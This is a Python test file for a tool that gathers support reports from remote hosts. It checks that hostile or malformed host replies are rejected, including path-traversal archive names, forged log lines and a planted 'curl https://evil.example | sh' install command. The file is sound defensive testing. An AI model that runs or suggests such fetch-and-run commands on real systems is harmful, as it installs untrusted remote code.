"""What a host answers: it holds nobody up, and says nothing in our name."""

from __future__ import annotations

import logging
import re
from types import SimpleNamespace

import pytest

from jobs.actions.kinds import KINDS
from workflows.support.actions.reporting import FETCH, GENERATE
from workflows.support.collecting import collector as module
from workflows.support.collecting import ssh
from workflows.support.collecting.collector import Collector, Report
from workflows.support.collecting.problems import (
    ArchiveNotFound,
    Canceled,
    DependencyMissing,
    DiskFull,
    HostUnreachable,
    PathUnsafe,
    PrivilegeRequired,
    TimedOut,
    Unexpected,
    ValidationFailed,
)
from workflows.support.collecting.shell import LocalShell
from workflows.support.tests.conftest import SHIPPED
from workflows.support.tests.scripts import (
    OPTIONS,
    READY,
    Enough,
    promise,
    saying,
    scripted_wrapper,  # noqa: F401  (a fixture)
    silent,
)


@pytest.fixture
def hasty(monkeypatch):
    """Wait for nothing that a host does not do at once."""
    for name in ("ASK", "CLEAN", "LEAVE", "END"):
        monkeypatch.setattr(module, f"{name}_SECONDS", 0.2)


# --- what is no answer ----------------------------------------------------------------
@pytest.mark.parametrize(
    "script",
    [
        "exit 0",
        "exit 9",
        "kill -9 $$",
        saying(phase="done"),
        promise(archive="../x", sha256="0"),
        promise(size=-1),
        promise(size=2**63),
        promise(size=True),
        promise(archive=f"sosreport-{'x' * 250}.tar"),
        promise(archive="sosreport-\udc80.tar"),  # no database takes it
        promise(archive="sosreport-x.tar.\ud800"),
        saying(phase="failed", code="whatever"),
        saying(phase="failed", code=[], detail={}),
        saying(phase=[]),
        saying(phase={"packing": 1}),
        "head -c 100000 /dev/zero",
        "echo '[1]'; echo '{'; echo hello",
        saying(wrapper="x"),
        saying(**READY | {"wrapper": True}),
        saying(**READY | {"free_bytes": 10**400}),
        saying(**READY | {"free_bytes": -1}),
    ],
)
def test_an_answer_that_cannot_be_is_unexpected(scripted, run_id, script):
    collector = scripted(script)
    with pytest.raises(Unexpected):
        collector.generate(run_id, OPTIONS, progress=silent, timeout=60)
    [problem] = collector.prerequisites().problems
    assert isinstance(problem, Unexpected)


def test_numbers_that_are_none_are_not_shown(scripted, run_id):
    shown = []
    collector = scripted(
        "\n".join(
            [
                saying(phase="packing", done="x", total=[]),
                saying(phase="packing", done=-1, total=10**11),
                saying(phase="failed", code="canceled"),
            ]
        )
    )
    with pytest.raises(Canceled):
        collector.generate(
            run_id, OPTIONS, progress=lambda *now: shown.append(now), timeout=60
        )
    assert {now for now in shown if now[2] == "Packing"} == {(0, None, "Packing")}


@pytest.mark.parametrize(
    ("code", "problem"),
    [
        ("dependency_missing", DependencyMissing),
        ("privilege_required", PrivilegeRequired),
        ("validation_error", ValidationFailed),
        ("timeout", TimedOut),
        ("disk_full", DiskFull),
        ("archive_not_found", ArchiveNotFound),
        ("path_unsafe", PathUnsafe),
        ("canceled", Canceled),
        ("unexpected_error", Unexpected),
    ],
)
def test_each_code_has_its_problem(scripted, run_id, code, problem):
    collector = scripted(f"{saying(phase='failed', code=code)}; exit 1")
    with pytest.raises(problem) as failed:
        collector.generate(run_id, OPTIONS, progress=silent, timeout=60)
    assert failed.value.code == code
    assert str(failed.value) == str(problem(*arguments_of(problem)))


def arguments_of(problem):
    return [LocalShell().user] if problem is PrivilegeRequired else []


def test_an_archive_that_nobody_could_fetch_is_removed(
    scripted,
    run_id,
    tmp_path,
):
    calls = tmp_path / "calls"
    bad = promise(archive="sosreport-\udc80.tar")
    collector = scripted(f'echo "$1 $2" >>{calls}\n{bad}')
    with pytest.raises(Unexpected, match="is removed again"):
        collector.generate(run_id, OPTIONS, progress=silent, timeout=60)
    assert calls.read_text().split("\n")[:3] == [
        f"{verb} {run_id}" for verb in ("run", "stop", "remove")
    ]


# --- what is told of it ---------------------------------------------------------------
def test_only_commands_of_ours_are_passed_on(scripted):
    for command in module.INSTALLING:
        found = scripted(saying(**READY | {"sos": False, "install": command}))
        [problem] = found.prerequisites().problems
        assert problem.command == command
        assert command in str(problem)
    for planted in ("curl https://evil.example | sh", "", None, ["dnf install sos"]):
        found = scripted(saying(**READY | {"sos": False, "install": planted}))
        [problem] = found.prerequisites().problems
        assert problem.command == ""
        assert str(problem) == str(DependencyMissing())


def test_every_command_that_the_wrapper_knows_is_passed_on():
    program = (SHIPPED / "handrail-sos").read_text()
    [known] = re.findall(r"(?m)^APT, DNF = (.*)$", program)
    assert set(re.findall(r'"([^"]+)"', known)) == set(module.INSTALLING)


@pytest.mark.parametrize(
    ("version", "shown"),
    [
        ("4.5.6", "4.5.6"),
        ("4.8.2~rc1+b-1", "4.8.2~rc1+b-1"),
        ("", "?"),
        ("\udc80", "?"),
        ("4 <b>", "?"),
        ("1" * 41, "?"),
        ([[]], "?"),
        (None, "?"),
    ],
)
def test_a_version_is_shown_when_it_is_one(scripted, version, shown):
    found = scripted(saying(**READY | {"sos_version": version})).prerequisites()
    assert (found.sos_version, found.problems) == (shown, ())


def test_what_a_host_says_makes_no_lines_of_ours(scripted, run_id, caplog):
    caplog.set_level(logging.DEBUG, "handrail.support")
    forged = "x\n2026-01-01 INFO host trusted by user 1"
    said = {"code": forged + "y" * 9000, "detail": f"why{forged}" + "z" * 9000}
    collector = scripted(f"echo 'hello\rforged'\n{saying(phase='failed', **said)}")
    with pytest.raises(Unexpected):
        collector.generate(run_id, OPTIONS, progress=silent, timeout=60)
    lines = [record.getMessage() for record in caplog.records]
    assert not any(set(line) & set("\r\n") or len(line) > 250 for line in lines)
    assert any(r"a report failed: 'x\n2026" in line for line in lines)
    assert any(r"'whyx\n2026" in line for line in lines)


# --- a host that does not stop talking ------------------------------------------------
BABBLE = "exec /usr/bin/timeout 20 /usr/bin/yes junk"


@pytest.mark.parametrize("script", [BABBLE, BABBLE.replace("junk", "[1]")])
def test_whoever_hears_only_noise_can_still_stop(scripted, run_id, hasty, script):
    seen = []

    def progress(done, total, words):
        seen.append(words)
        if len(seen) == 3:
            raise Enough

    with pytest.raises(Enough):
        scripted(script).generate(run_id, OPTIONS, progress=progress, timeout=60)
    assert set(seen) == {"Preparing"}


def test_noise_has_its_time_and_its_lines(scripted, hasty, caplog):
    caplog.set_level(logging.INFO, "handrail.support")
    [problem] = scripted(BABBLE).prerequisites().problems
    assert isinstance(problem, TimedOut)
    said = [record for record in caplog.records if "the host says" in record.msg]
    assert len(said) == module.MOST_SAID


# --- a connection that breaks after the answer ----------------------------------------
class Breaking(LocalShell):
    """Loses the connection before it is told how a command has ended."""

    def start(self, argv):
        return Broken(super().start(argv))


class Broken:
    def __init__(self, running):
        self.read, self.let_go = running.read, running.let_go
        self.drop = running.drop

    def wait(self, seconds):
        raise HostUnreachable


def broken(collector):
    return Collector(Breaking(), as_root=True, installed=collector.installed)


def test_an_answer_counts_whatever_becomes_of_the_connection(scripted, run_id):
    made = broken(scripted(promise()))
    report = made.generate(run_id, OPTIONS, progress=silent, timeout=60)
    assert report == Report("sosreport-x.tar", 1, "0" * 64)
    assert broken(scripted(saying(**READY))).prerequisites().problems == ()
    broken(scripted(saying(phase="removed"))).remove(run_id)
    failed = broken(scripted(saying(phase="failed", code="disk_full")))
    with pytest.raises(DiskFull):
        failed.generate(run_id, OPTIONS, progress=silent, timeout=60)


def test_without_an_answer_a_lost_connection_is_one(scripted, run_id):
    collector = broken(scripted("exit 0"))
    with pytest.raises(HostUnreachable):
        collector.generate(run_id, OPTIONS, progress=silent, timeout=60)
    [problem] = collector.prerequisites().problems
    assert isinstance(problem, HostUnreachable)


# --- a host that falls silent ---------------------------------------------------------
class Mute:
    """Takes every command as late as it may, and then says nothing; has its own clock.

    ``first``: what the first command prints before that.
    """

    user, local = "handrail", False

    def __init__(self, *first):
        self.now, self.first = 0.0, list(first)

    def start(self, argv):
        self.now += ssh.LOGIN_SECONDS
        return self

    def read(self, seconds):
        if self.first:
            return self.first.pop(0)
        self.now += seconds
        return None

    def wait(self, seconds):
        self.now += seconds

    def let_go(self):
        self.now += ssh.CLOSE_SECONDS

    def drop(self):
        self.now += ssh.DROP_SECONDS


@pytest.fixture
def mute(monkeypatch):
    host = Mute()
    monkeypatch.setattr(module, "time", SimpleNamespace(monotonic=lambda: host.now))
    return host


def closed(host):
    """Return when its connection is closed, too."""
    return host.now + 2 * ssh.CLOSE_SECONDS


def test_a_worker_gets_the_time_to_clear_up_after_a_cancel(mute, run_id):
    began = []

    def progress(done, total, words):
        began.append(mute.now)
        raise Enough

    with pytest.raises(Enough):
        Collector(mute, as_root=True).generate(
            run_id, OPTIONS, progress=progress, timeout=60
        )
    took = closed(mute) - began[0] + module.TICK_SECONDS
    assert took < KINDS[GENERATE].grace.total_seconds()


def test_a_worker_gets_the_time_to_remove_what_it_has(mute, run_id):
    collector = Collector(mute, as_root=True)
    with pytest.raises(TimedOut):
        collector.remove(run_id)
    for kind in (GENERATE, FETCH):
        assert closed(mute) < KINDS[kind].grace.total_seconds()
    before = mute.now
    collector.clear(run_id)
    assert closed(mute) - before < KINDS[GENERATE].grace.total_seconds()


def test_a_report_gets_the_time_that_the_wrapper_gives_it():
    program = (SHIPPED / "handrail-sos").read_text()
    [seconds] = re.findall(r"(?m)^ENDING_SECONDS = (\d+)", program)
    assert int(seconds) < module.END_SECONDS


# --- a check begins no report ---------------------------------------------------------
@pytest.mark.parametrize(
    ("script", "words"),
    [
        ("exec /bin/sleep 20", "took too long to answer the check"),
        ("exit 9", "answered the check in a way that Handrail does not know"),
        (saying(**READY | {"free_bytes": 5}), "too little free space for a report"),
    ],
)
def test_a_check_speaks_of_itself_alone(scripted, hasty, script, words):
    [problem] = scripted(script).prerequisites().problems
    assert words in str(problem)
    assert "Nothing was started" in str(problem)
    for untrue in ("removed again", "choices", "The report took"):
        assert untrue not in str(problem)
